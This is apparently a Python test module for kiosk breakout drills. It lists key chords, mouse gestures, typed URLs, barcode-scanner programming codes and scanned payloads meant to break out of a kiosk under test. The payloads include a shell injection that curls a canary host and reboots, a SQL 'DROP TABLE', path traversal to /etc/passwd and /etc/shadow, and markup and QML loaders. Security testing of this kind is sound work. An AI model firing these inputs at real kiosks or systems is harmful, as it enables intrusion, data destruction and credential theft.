"""The ways out that people try at a kiosk: keys, chords, the mouse, a scanner that types, a scanner on a line."""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.drills.breakout.session import KioskSession

ESC, TAB, ENTER, SHIFT, CTRL, ALT, SPACE, BACK, DELETE = 9, 23, 36, 50, 37, 64, 65, 22, 119
SUPER, MENU, PRINT, NUM = 133, 135, 107, 77
F = {**{n: 66 + n for n in range(1, 11)}, 11: 95, 12: 96}
LETTERS = dict(zip("qwertyuiop", range(24, 34), strict=True))
LETTERS |= dict(zip("asdfghjkl", range(38, 47), strict=True)) | dict(zip("zxcvbnm", range(52, 59), strict=True))
SILENT = {
    "Menu": MENU,
    "Print": PRINT,
    "Scroll Lock": 78,
    "Pause": 127,
    "left Super": SUPER,
    "right Super": 134,
    "Mute": 121,
    "louder": 123,
    "Power": 124,
    "Sleep": 150,
    "Wake": 151,
    "browser": 158,
    "mail": 163,
    "favourites": 164,
    "back": 166,
    "forward": 167,
    "eject": 169,
    "home page": 180,
    "reload": 181,
    "calculator": 148,
    "my computer": 165,
    "search": 225,
    "media": 179,
    "other display": 235,
    "terminal": 160,
    "help": 146,
    "undo": 139,
    "copy": 141,
    "find": 144,
}
CHORDS = {
    "Alt+F4": (ALT, F[4]),
    "Alt+Tab": (ALT, TAB),
    "Alt+Esc": (ALT, ESC),
    "Alt+Space": (ALT, SPACE),
    "Alt+F1": (ALT, F[1]),
    "Alt+F2": (ALT, F[2]),
    "Alt+Enter": (ALT, ENTER),
    "Alt+left": (ALT, 113),
    "Ctrl+Esc": (CTRL, ESC),
    "Ctrl+Shift+Esc": (CTRL, SHIFT, ESC),
    "Ctrl+Alt+Del": (CTRL, ALT, DELETE),
    "Ctrl+Alt+Backspace": (CTRL, ALT, BACK),
    "Ctrl+Alt+Esc": (CTRL, ALT, ESC),
    "Ctrl+Alt+T": (CTRL, ALT, LETTERS["t"]),
    "Ctrl+Shift+I": (CTRL, SHIFT, LETTERS["i"]),
    "Ctrl+Shift+U": (CTRL, SHIFT, LETTERS["u"]),
    "Ctrl+Space": (CTRL, SPACE),
    "Alt+SysRq+B": (ALT, PRINT, LETTERS["b"]),
    "Alt+SysRq+K": (ALT, PRINT, LETTERS["k"]),
    "Shift+F10": (SHIFT, F[10]),
    "Super+R": (SUPER, LETTERS["r"]),
    "Super+L": (SUPER, LETTERS["l"]),
    "Super+D": (SUPER, LETTERS["d"]),
    "Super+E": (SUPER, LETTERS["e"]),
    "Super+Tab": (SUPER, TAB),
    "Ctrl+plus on the pad": (CTRL, ALT, 86),
    "Ctrl+minus on the pad": (CTRL, ALT, 82),
    "Shift+NumLock": (SHIFT, NUM),
    "Ctrl+F4": (CTRL, F[4]),
    "Ctrl+F11": (CTRL, F[11]),
}
ADDRESSES = ("{canary}/typed", "file:///etc/passwd", "mailto:a@example.org", "javascript:alert(1)", "tel:110")
PROGRAMMING = (
    b"%%SpecCode9E",
    b"$#R6C#$",
    b"^3^FNC1AREAD",
    b"\x16M\rPAPHHF.",
    b"@MENU_OPTO@ON",
    b"NLS0006010;",
    b"\x1bA\x1b[2J",
)
PAYLOADS = {
    "an address": b"{canary}/scanned",
    "an address with a word in front": b"URL:{canary}/word",
    "a file": b"file:///etc/shadow",
    "a telephone's wireless settings": b"WIFI:T:WPA;S=a;P=b;;",
    "a visiting card with an address": b"BEGIN:VCARD\nURL:{canary}/v\nEND:VCARD",
    "an app's intent": b"intent://scan/#Intent;scheme=http;S.browser_fallback_url={canary}/i;end",
    "SQL": b"'; DROP TABLE ticket;--",
    "a shell": b"$(curl {canary}/shell); reboot #",
    "format strings": b"%s%s%n%x{0}{0.__class__}",
    "markup": b"<img src='{canary}/img'>",
    "QML": b"import QtQuick; Loader { source: '{canary}/q' }",
    "right to left": "\u202e码\u202d{canary}/rtl".encode(),
    "nothing but zeros": b"\x00" * 64,
    "all control characters": bytes(range(32)),
    "4 KB": b"A" * 4096,
    "64 KB": b"B" * 65536,
    "4 KB of half characters": b"\xe7\xa0" * 2048,
    "our own slip, cut off": b"KPT1:0000000000",
    "a path": b"../../../../etc/passwd\x00",
}


@dataclass(frozen=True)
class Attempt:
    """One try: its kind, its name, and what is done."""

    kind: str
    name: str
    act: Callable[[KioskSession], None]


def typed(canary: str) -> Iterator[Attempt]:
    """Before a kiosk whose scanner types into the window: everything that a keyboard and a mouse can do."""
    for name, code in {**{f"F{n}": code for n, code in F.items()}, "Esc": ESC, "Tab": TAB, **SILENT}.items():
        yield Attempt("key", name, lambda x, code=code: x.chord(code))
    for name, codes in CHORDS.items():
        yield Attempt("chord", name, lambda x, codes=codes: x.chord(*codes))
    for n, code in F.items():
        yield Attempt("terminal", f"Ctrl+Alt+F{n}", lambda x, code=code: x.chord(CTRL, ALT, code))
    for letter in "qwnopstfrluhjadxcv":
        yield Attempt("chord", f"Ctrl+{letter.upper()}", lambda x, code=LETTERS[letter]: x.chord(CTRL, code))
    yield Attempt("held", "Shift five times", lambda x: [x.chord(SHIFT) for _ in range(5)] and None)
    yield Attempt("held", "Shift for eight seconds", lambda x: x.chord(SHIFT, held_s=8.2))
    yield Attempt("held", "both Shifts", lambda x: x.chord(SHIFT, 62))
    yield Attempt("held", "every key at once", lambda x: x.chord(*range(9, 98)))
    yield from _mouse()
    for address in ADDRESSES:
        text = address.format(canary=canary)
        yield Attempt("keyboard", f"types {address}", lambda x, text=text: _types(x, text))
    for code in PROGRAMMING:
        words = code.decode("ascii", "ignore")
        yield Attempt("keyboard", f"types {words!r}", lambda x, words=words: _types(x, words))
    yield Attempt("keyboard", "types 3,000 letters", lambda x: x.x("type", "--delay", "0", "w" * 3000) and None)


def _mouse() -> Iterator[Attempt]:
    for button, what in {2: "middle", 3: "right", 8: "back", 9: "forward"}.items():
        yield Attempt(
            "mouse", f"{what} button", lambda x, b=button: x.x("mousemove", "540", "960", "click", str(b)) and None
        )
    yield Attempt("mouse", "wheel", lambda x: x.x("click", "--repeat", "20", "--delay", "5", "5") and None)
    yield Attempt(
        "mouse", "Ctrl and wheel", lambda x: x.x("keydown", "37", "click", "--repeat", "9", "4", "keyup", "37") and None
    )
    yield Attempt(
        "mouse", "three clicks", lambda x: x.x("mousemove", "540", "60", "click", "--repeat", "3", "1") and None
    )
    for name, (x1, y1, x2, y2) in {
        "from the left edge": (0, 900, 800, 900),
        "from the right edge": (1079, 900, 200, 900),
        "from the top": (540, 0, 540, 1400),
        "from the bottom": (540, 1919, 540, 300),
        "out of the screen": (540, 30, 540, -200),
    }.items():
        yield Attempt("gesture", f"a swipe {name}", lambda x, at=(x1, y1, x2, y2): _drag(x, *at))
    for name, (left, top) in {
        "left above": (0, 0),
        "right above": (1079, 0),
        "left below": (0, 1919),
        "right below": (1079, 1919),
    }.items():
        yield Attempt("gesture", f"a long press {name}", lambda x, at=(left, top): _press(x, *at, 2.5))
        yield Attempt("gesture", f"ten taps {name}", lambda x, at=(left, top): _taps(x, *at))


def scanned(canary: str) -> Iterator[Attempt]:
    """Before a kiosk whose scanner is on a line: codes of every kind, and how scanners are programmed."""
    for name, data in PAYLOADS.items():
        whole = data.replace(b"{canary}", canary.encode())
        yield Attempt("code", name, lambda x, whole=whole: x.scan(whole + b"\r"))
    for code in PROGRAMMING:
        yield Attempt("programming", repr(code)[2:-1], lambda x, code=code: x.scan(code + b"\r"))
    yield Attempt("code", "500 codes in a row", lambda x: x.scan(b"".join(b"%d\r" % n for n in range(500))))


def _types(x: KioskSession, text: str) -> None:
    x.x("type", "--delay", "4", text)
    x.chord(ENTER)


def _drag(x: KioskSession, left: int, top: int, to_left: int, to_top: int) -> None:
    x.x("mousemove", str(left), str(top), "mousedown", "1")
    for part in range(1, 9):
        at = left + (to_left - left) * part // 8, top + (to_top - top) * part // 8
        x.x("mousemove", *(str(max(0, one)) for one in at))
    x.x("mouseup", "1")


def _press(x: KioskSession, left: int, top: int, seconds: float) -> None:
    x.x("mousemove", str(left), str(top), "mousedown", "1")
    time.sleep(seconds)
    x.x("mouseup", "1")


def _taps(x: KioskSession, left: int, top: int) -> None:
    x.x("mousemove", str(left), str(top), "click", "--repeat", "10", "--delay", "60", "1")
